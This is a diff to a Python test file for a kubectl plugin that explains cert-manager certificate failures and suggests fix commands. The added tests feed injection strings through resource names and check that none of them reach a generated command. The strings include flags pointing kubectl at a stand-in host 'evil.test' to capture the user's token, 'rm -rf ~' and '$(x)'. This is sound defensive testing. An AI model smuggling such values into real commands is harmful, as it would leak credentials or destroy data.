@@ -5,6 +5,7 @@ import time
 from datetime import UTC, datetime, timedelta
 
 import msgspec
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -12,6 +13,7 @@ from kubectl_order.explain import explain
 from kubectl_order.explain.ending import HEADLINE, MOST, runnable
 from kubectl_order.explain.words import LONGEST
 from kubectl_order.facts import Absent, Chain, Leader, SecretMeta, Unread
+from kubectl_order.finding import Ref, kubectl, plugin
 from orderapi import names, states
 from orderapi.certificate import CertificateStatus, Renewal
 from orderapi.conditions import Condition
@@ -36,6 +38,9 @@ _FRAGMENTS = (
     "exceeded quota: few, ",
     'User "system:x" cannot create resource "orders" in API group "g"',
     'Secret "a; rm -rf ~" ',
+    'JKS keystore password Secret "a --server=https://evil.test" not found',
+    'Ingress "a --all" exists and is not of this Challenge',
+    'User "u" cannot create resource "-shttps://evil.test" in API group ""',
     'failed to get secret "$(x)": there is none in namespace "a"',
     "external account binding: ",
     'Referenced "Issuer" not found',
@@ -51,6 +56,8 @@ _FRAGMENTS = (
     KEY,
     "\n\x1b[2J\u202e\u2028'\"",
 )
+_FLAGS = ("x --server=https://evil.test --insecure-skip-tls-verify", "-shttps://evil.test")
+"""Names that would have kubectl show the token of whoever runs it to another server."""
 _TEXTS = st.lists(st.sampled_from(_FRAGMENTS) | st.text(max_size=40), max_size=4).map("".join) | (
     st.just("x" * 20_000)
 )
@@ -97,8 +104,8 @@ _METAS = st.builds(
 )
 _REFS = st.builds(
     IssuerRef,
-    name=st.sampled_from(("acme", "", "x y")),
-    kind=st.sampled_from(("", "Issuer", "ClusterIssuer", "Moon")),
+    name=st.sampled_from(("acme", "", "x y", *_FLAGS)),
+    kind=st.sampled_from(("", "Issuer", "ClusterIssuer", "Moon", *_FLAGS)),
     group=st.sampled_from(("", "cert-manager.io", "example.org")),
 )
 _STATUSES = st.builds(
@@ -120,7 +127,7 @@ def _certificates(draw: st.DrawFn) -> object:
     made = a_certificate(
         draw(_STATUSES),
         issuer=draw(_REFS),
-        secret=draw(st.sampled_from(("web-tls", "", "$(x); y", "a'b"))),
+        secret=draw(st.sampled_from(("web-tls", "", "$(x); y", "a'b", *_FLAGS))),
         metadata=draw(_METAS),
     )
     renewal = draw(st.sampled_from((None, Renewal(policy="Disabled"), Renewal())))
@@ -180,6 +187,18 @@ def test_a_command_is_words_and_nothing_else(chain: Chain) -> None:
     assert runnable(command) == command
     split = list(shlex.shlex(command, posix=True, punctuation_chars=True))
     assert not [word for word in split if set(word) & set("();<>|&`$")]
+    assert "evil.test" not in command
+    assert "--all " not in f"{command} "
+
+
+@pytest.mark.parametrize("name", [*_FLAGS, "a b", "-A", "*", "$(x)"])
+def test_no_command_is_made_of_a_name_that_is_none(name: str) -> None:
+    told = Condition(type="Ready", status="False", reason="SecretNotAdopted", message="no")
+    certificate = a_certificate(CertificateStatus(conditions=(told,)), secret=name)
+    found = explain(a_chain(certificate=certificate))
+    assert (found.cause, found.command) == ("secret-not-adopted", "kubectl order status")
+    odd = Ref(kind=name, name="web", namespace="shop")
+    assert {plugin("why", odd), kubectl("get", odd)} == {"kubectl order status"}
 
 
 def test_a_status_without_bounds_is_read_in_no_time() -> None:
@@ -195,3 +214,12 @@ def test_a_status_without_bounds_is_read_in_no_time() -> None:
     begun = time.thread_time()
     assert explain(chain).headline
     assert time.thread_time() - begun < 2
+
+
+@pytest.mark.parametrize("before", range(0, 420, 15))
+def test_no_part_of_a_token_is_left_where_a_text_is_cut(before: int) -> None:
+    told = f'{"x" * before} expected "{KEY}" of {TOKEN}'
+    challenge = a_challenge("invalid", told)
+    found = explain(a_chain(order=an_order("invalid", told), challenges=[challenge]))
+    assert TOKEN[:8] not in repr(found)
+    assert KEY[-8:] not in repr(found)
